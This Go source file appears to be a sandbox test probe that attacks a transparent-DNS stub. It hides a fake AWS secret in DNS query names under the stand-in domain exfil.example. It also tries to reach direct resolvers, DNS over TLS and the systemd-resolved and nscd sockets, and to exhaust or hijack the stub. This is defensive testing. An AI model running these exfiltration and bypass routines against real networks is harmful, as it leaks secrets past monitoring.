//go:build linux

// Command transprobe is what test/clients runs inside a Trial to try
// transparent mode where no packaged client reaches: a grpc-go client
// with its own dialer, and the attacks on the stub and the pool. Each
// attack prints one JSON report on stdout and exits 0; the test judges
// the report. It is built static (CGO_ENABLED=0), so its lookups are Go's
// own resolver reading /etc/resolv.conf, not glibc's.
//
//	transprobe grpc NAME:PORT                     # health check over TLS; exit 0 if SERVING
//	transprobe exfil -marker M -direct IP ...     # every record type, UDP and TCP
//	transprobe exhaust -suffix S -max N           # distinct names until the stub refuses
//	transprobe intercept -listen A:P -connect H:P # listen on addresses, then connect
//	transprobe dial NAME:PORT                     # resolve, connect, send, read
//	transprobe udp NAME:PORT                      # resolve, then datagrams to the address
package main

import (
	"context"
	"crypto/tls"
	"encoding/base32"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"slices"
	"strings"
	"syscall"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"
)

// stub is where a Trial's resolv.conf points in transparent mode.
const stub = "127.0.0.53:53"

func main() {
	if len(os.Args) < 2 {
		fail(errors.New("usage: transprobe grpc|exfil|exhaust|intercept|dial|udp ARGS"))
	}
	cmds := map[string]func([]string) error{"grpc": grpcCheck, "exfil": exfil, "exhaust": exhaust, "intercept": intercept, "dial": dial, "udp": udp}
	cmd, ok := cmds[os.Args[1]]
	if !ok {
		fail(fmt.Errorf("unknown command %q", os.Args[1]))
	}
	if err := cmd(os.Args[2:]); err != nil {
		fail(err)
	}
}

func fail(err error) {
	fmt.Fprintln(os.Stderr, "transprobe:", err)
	os.Exit(1)
}

func emit(v any) error { return json.NewEncoder(os.Stdout).Encode(v) }

// grpcCheck calls the standard health service at target over TLS (the
// CA from SSL_CERT_FILE), dialling with its own net.Dialer: grpc's own
// resolver is bypassed (passthrough), so the name is looked up by the
// dialer, as a client with a custom dialer does.
func grpcCheck(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: transprobe grpc NAME:PORT")
	}
	host, _, err := net.SplitHostPort(args[0])
	if err != nil {
		return err
	}
	dialer := func(ctx context.Context, addr string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "tcp", addr)
	}
	conn, err := grpc.NewClient("passthrough:///"+args[0], grpc.WithContextDialer(dialer),
		grpc.WithTransportCredentials(credentials.NewTLS(&tls.Config{ServerName: host})))
	if err != nil {
		return err
	}
	defer conn.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	resp, err := healthpb.NewHealthClient(conn).Check(ctx, &healthpb.HealthCheckRequest{}, grpc.WaitForReady(false))
	if err != nil {
		return err
	}
	fmt.Println("grpc health:", resp.GetStatus())
	if resp.GetStatus() != healthpb.HealthCheckResponse_SERVING {
		return fmt.Errorf("status %s", resp.GetStatus())
	}
	return nil
}

// ExfilReport is what exfil found.
type ExfilReport struct {
	Asked      int            `json:"asked"`      // queries sent to the stub
	Unanswered int            `json:"unanswered"` // of those, no reply at all (timeout, refused socket)
	Rcodes     map[string]int `json:"rcodes"`     // replies by rcode
	// WithRecords lists replies that carried any record, as "name type".
	WithRecords []string `json:"with_records"`
	// Direct is every attempt to reach a resolver other than the stub:
	// what happened ("" when it got through).
	Direct map[string]string `json:"direct"`
}

// hiddenNames hide marker and a fake secret in names a Trial could try:
// under a name of its own, under an allowed exact name and wildcard (when
// given), a binary label, the longest name there is, and a reverse name.
func hiddenNames(marker string, under []string) []string {
	secret := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG")))
	label := marker + secret[:40]
	names := []string{label + "." + secret[40:] + ".exfil.example.", `\000\001\255` + label[:20] + ".exfil.example.",
		strings.Repeat(marker+strings.Repeat("a", 63-len(marker))+".", 3) + marker + strings.Repeat("b", 61-len(marker)) + ".",
		marker + ".1.0.100.127.in-addr.arpa."}
	for _, u := range under {
		names = append(names, label+"."+dns.Fqdn(u))
	}
	return names
}

// exfil asks the stub for every exfil name with every record type over
// UDP and TCP, then tries every other way to a resolver: the test DNS
// server directly (UDP and TCP 53, DoT 853), the host's nameservers, and
// the unix sockets of the host's resolver daemons.
func exfil(args []string) error {
	fs := flag.NewFlagSet("exfil", flag.ContinueOnError)
	marker := fs.String("marker", "", "a string to hide in every name")
	under := fs.String("under", "", "comma-separated names to hide data below")
	direct := fs.String("direct", "", "comma-separated resolver addresses to try directly")
	// Under the stub's rate limit, so that each query meets its policy,
	// not the limiter.
	rate := fs.Int("rate", 150, "queries per second to the stub")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if len(*marker) < 4 || len(*marker) > 20 {
		return errors.New("-marker: 4 to 20 letters and digits")
	}
	rep := ExfilReport{Rcodes: map[string]int{}, Direct: map[string]string{}}
	var types []uint16
	for t := range dns.TypeToString {
		types = append(types, t)
	}
	slices.Sort(types)
	tick := time.NewTicker(time.Second / time.Duration(*rate))
	defer tick.Stop()
	for _, network := range []string{"udp", "tcp"} {
		c := &dns.Client{Net: network, Timeout: 3 * time.Second}
		for _, name := range hiddenNames(*marker, split(*under)) {
			for _, qt := range types {
				m := new(dns.Msg)
				m.SetQuestion(name, qt)
				<-tick.C
				rep.Asked++
				r, _, err := c.Exchange(m, stub)
				if err != nil {
					rep.Unanswered++
					continue
				}
				rep.Rcodes[dns.RcodeToString[r.Rcode]]++
				if len(r.Answer)+len(r.Ns)+len(r.Extra) > 0 && !onlyOPT(r) {
					rep.WithRecords = append(rep.WithRecords, name+" "+dns.TypeToString[qt])
				}
			}
		}
	}
	name := hiddenNames(*marker, nil)[0]
	for _, addr := range split(*direct) {
		for _, network := range []string{"udp", "tcp"} {
			c := &dns.Client{Net: network, Timeout: 3 * time.Second}
			m := new(dns.Msg)
			m.SetQuestion(name, dns.TypeA)
			_, _, err := c.Exchange(m, net.JoinHostPort(addr, "53"))
			rep.Direct[network+" "+addr+":53"] = errString(err)
		}
		d := &net.Dialer{Timeout: 3 * time.Second}
		conn, err := tls.DialWithDialer(d, "tcp", net.JoinHostPort(addr, "853"), &tls.Config{ServerName: name, InsecureSkipVerify: true})
		if err == nil {
			_ = conn.Close()
		}
		rep.Direct["dot "+addr+":853"] = errString(err)
	}
	// The host's resolver daemons answer on unix sockets: systemd-resolved
	// (varlink) and nscd. A Trial must not reach them either.
	for _, path := range []string{"/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/var/run/nscd/socket"} {
		if _, err := os.Stat(path); err != nil {
			continue
		}
		conn, err := net.DialTimeout("unix", path, 3*time.Second)
		if err == nil {
			_, err = fmt.Fprintf(conn, `{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":%q}}`+"\x00", strings.TrimSuffix(name, "."))
			_ = conn.Close()
		}
		rep.Direct["unix "+path] = errString(err)
	}
	return emit(rep)
}

func onlyOPT(r *dns.Msg) bool {
	return len(r.Answer) == 0 && len(r.Ns) == 0 && len(r.Extra) == 1 && r.Extra[0].Header().Rrtype == dns.TypeOPT
}

func split(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(s, ",")
}

func errString(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

// ExhaustReport is what exhaust found.
type ExhaustReport struct {
	// FirstRefused is the index of the first name the stub refused twice,
	// a rate-limit refill apart (-1: none within -max).
	FirstRefused int `json:"first_refused"`
	// LaterRefused counts, of the 20 names after it, those refused too.
	LaterRefused int    `json:"later_refused"`
	FirstAddr    string `json:"first_addr"` // name 0's address when first asked
	FirstAgain   string `json:"first_again"`
	Err          string `json:"err,omitempty"`
}

// exhaust asks the stub for n0.SUFFIX, n1.SUFFIX, ... each once, paced
// below the stub's rate limit, until one is refused even after the rate
// limiter refilled; then checks that the next names are refused too and
// that name 0 keeps its address.
func exhaust(args []string) error {
	fs := flag.NewFlagSet("exhaust", flag.ContinueOnError)
	suffix := fs.String("suffix", "", "an allowed wildcard's suffix")
	limit := fs.Int("max", 5000, "names to try at most")
	rate := fs.Int("rate", 150, "queries per second")
	if err := fs.Parse(args); err != nil {
		return err
	}
	c := &dns.Client{Net: "udp", Timeout: 3 * time.Second}
	ask := func(i int) (string, int, error) {
		m := new(dns.Msg)
		m.SetQuestion(fmt.Sprintf("n%d.%s", i, dns.Fqdn(*suffix)), dns.TypeA)
		r, _, err := c.Exchange(m, stub)
		if err != nil {
			return "", -1, err
		}
		for _, rr := range r.Answer {
			if a, ok := rr.(*dns.A); ok {
				return a.A.String(), r.Rcode, nil
			}
		}
		return "", r.Rcode, nil
	}
	rep := ExhaustReport{FirstRefused: -1}
	tick := time.NewTicker(time.Second / time.Duration(*rate))
	defer tick.Stop()
	for i := 0; i < *limit && rep.FirstRefused < 0; i++ {
		<-tick.C
		addr, rcode, err := ask(i)
		if err == nil && rcode == dns.RcodeRefused {
			time.Sleep(3 * time.Second) // the stub's bucket refills (burst/rate: 2 s)
			addr, rcode, err = ask(i)
			if err == nil && rcode == dns.RcodeRefused {
				rep.FirstRefused = i
				break
			}
		}
		if err != nil || addr == "" {
			rep.Err = fmt.Sprintf("n%d: rcode %d, %v", i, rcode, err)
			return emit(rep)
		}
		if i == 0 {
			rep.FirstAddr = addr
		}
	}
	if rep.FirstRefused >= 0 {
		for i := rep.FirstRefused + 1; i <= rep.FirstRefused+20; i++ {
			<-tick.C
			if _, rcode, err := ask(i); err == nil && rcode == dns.RcodeRefused {
				rep.LaterRefused++
			}
		}
	}
	rep.FirstAgain, _, _ = ask(0)
	return emit(rep)
}

// InterceptReport is what intercept found.
type InterceptReport struct {
	Listen   map[string]string `json:"listen"`   // address: why it could not be bound ("" when it was)
	Accepted int               `json:"accepted"` // connections the probe's own listeners got
	Dial     DialReport        `json:"dial"`
}

// intercept is a Trial trying to stand where transparent mode's traffic
// goes: it binds the stub's address (UDP and TCP, with SO_REUSEPORT and
// without) and the -listen addresses, then connects to -connect and
// reports whether its own sockets got anything.
func intercept(args []string) error {
	fs := flag.NewFlagSet("intercept", flag.ContinueOnError)
	listen := fs.String("listen", "", "comma-separated TCP addresses to listen on")
	target := fs.String("connect", "", "NAME:PORT or ADDR:PORT to connect to")
	if err := fs.Parse(args); err != nil {
		return err
	}
	rep := InterceptReport{Listen: map[string]string{}}
	got := make(chan struct{}, 64)
	var closers []io.Closer
	defer func() {
		for _, c := range closers {
			_ = c.Close()
		}
	}()
	for _, reuse := range []bool{false, true} {
		lc := net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
			var serr error
			err := c.Control(func(fd uintptr) {
				if reuse {
					serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_REUSEPORT, 1)
				}
			})
			return errors.Join(err, serr)
		}}
		tag := map[bool]string{false: "", true: " reuseport"}[reuse]
		pc, err := lc.ListenPacket(context.Background(), "udp4", stub)
		if err == nil {
			closers = append(closers, pc)
			go func() {
				buf := make([]byte, 512)
				for {
					if _, _, err := pc.ReadFrom(buf); err != nil {
						return
					}
					got <- struct{}{}
				}
			}()
		}
		rep.Listen["udp "+stub+tag] = errString(err)
		ln, err := lc.Listen(context.Background(), "tcp4", stub)
		if err == nil {
			closers = append(closers, ln)
			go acceptAll(ln, got)
		}
		rep.Listen["tcp "+stub+tag] = errString(err)
	}
	for _, addr := range split(*listen) {
		ln, err := net.Listen("tcp4", addr)
		if err == nil {
			closers = append(closers, ln)
			go acceptAll(ln, got)
		}
		rep.Listen["tcp "+addr] = errString(err)
	}
	if *target != "" {
		rep.Dial = dialOnce(*target)
	}
	time.Sleep(200 * time.Millisecond) // an accept that raced the dial's end
	rep.Accepted = len(got)
	return emit(rep)
}

func acceptAll(ln net.Listener, got chan<- struct{}) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		got <- struct{}{}
		_, _ = c.Write([]byte("intercepted\n"))
		_ = c.Close()
	}
}

// DialReport is one connection's fate.
type DialReport struct {
	Resolved string `json:"resolved"` // the address the name was given ("" if none)
	Resolve  string `json:"resolve_err,omitempty"`
	Connect  string `json:"connect_err,omitempty"`
	Read     string `json:"read"`               // what came back after "x\n"
	ReadErr  string `json:"read_err,omitempty"` // how the read ended
}

func dial(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: transprobe dial NAME:PORT")
	}
	return emit(dialOnce(args[0]))
}

// dialOnce resolves target's host (unless it is an address), connects,
// sends a line and reads what comes back within 5 s.
func dialOnce(target string) DialReport {
	var rep DialReport
	host, port, err := net.SplitHostPort(target)
	if err != nil {
		rep.Resolve = err.Error()
		return rep
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	addrs, err := net.DefaultResolver.LookupHost(ctx, host)
	if err != nil || len(addrs) == 0 {
		rep.Resolve = fmt.Sprint("no address: ", err)
		return rep
	}
	rep.Resolved = addrs[0]
	c, err := net.DialTimeout("tcp", net.JoinHostPort(addrs[0], port), 5*time.Second)
	if err != nil {
		rep.Connect = err.Error()
		return rep
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	_, _ = c.Write([]byte("x\n"))
	b, err := io.ReadAll(io.LimitReader(c, 256))
	rep.Read, rep.ReadErr = string(b), errString(err)
	return rep
}

// UDPReport is what udp did: each way of sending, with its error ("" for
// sent), and how the connected socket's read after its send ended.
type UDPReport struct {
	Resolved string            `json:"resolved"`
	Resolve  string            `json:"resolve_err,omitempty"`
	Sent     map[string]string `json:"sent"`
	ReadErr  string            `json:"read_err"`
}

// quicInitial starts like a QUIC v1 Initial packet (long header, version
// 1, empty connection IDs), padded as a client pads its first datagram.
var quicInitial = append([]byte{0xc3, 0, 0, 0, 1, 0, 0}, make([]byte, 1193)...)

// udp resolves target's host and sends datagrams to its address and
// port: unconnected from IPv4 and from IPv6 (the IPv4-mapped form), and
// on a connected socket a QUIC Initial, whose read then says what came
// back (ICMP port unreachable: connection refused).
func udp(args []string) error {
	if len(args) != 1 {
		return errors.New("usage: transprobe udp NAME:PORT")
	}
	rep := UDPReport{Sent: map[string]string{}}
	host, port, err := net.SplitHostPort(args[0])
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	addrs, err := net.DefaultResolver.LookupHost(ctx, host)
	if err != nil || len(addrs) == 0 {
		rep.Resolve = fmt.Sprint("no address: ", err)
		return emit(rep)
	}
	rep.Resolved = addrs[0]
	to := net.JoinHostPort(addrs[0], port)
	ap, err := netip.ParseAddrPort(to)
	if err != nil {
		return err
	}
	mapped := netip.AddrFrom16(ap.Addr().As16())
	for _, w := range []struct {
		name   string
		family int
		sa     unix.Sockaddr
	}{
		{"sendto4", unix.AF_INET, &unix.SockaddrInet4{Port: int(ap.Port()), Addr: ap.Addr().As4()}},
		{"sendto6-mapped", unix.AF_INET6, &unix.SockaddrInet6{Port: int(ap.Port()), Addr: mapped.As16()}},
	} {
		rep.Sent[w.name] = func() string {
			fd, err := unix.Socket(w.family, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err.Error()
			}
			defer unix.Close(fd)
			return errString(unix.Sendto(fd, []byte("x\n"), 0, w.sa))
		}()
	}
	c, err := net.Dial("udp4", to)
	if err != nil {
		rep.Sent["connected-quic"] = err.Error()
		return emit(rep)
	}
	defer c.Close()
	_, err = c.Write(quicInitial)
	rep.Sent["connected-quic"] = errString(err)
	_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
	_, err = c.Read(make([]byte, 1500))
	rep.ReadErr = errString(err)
	return emit(rep)
}
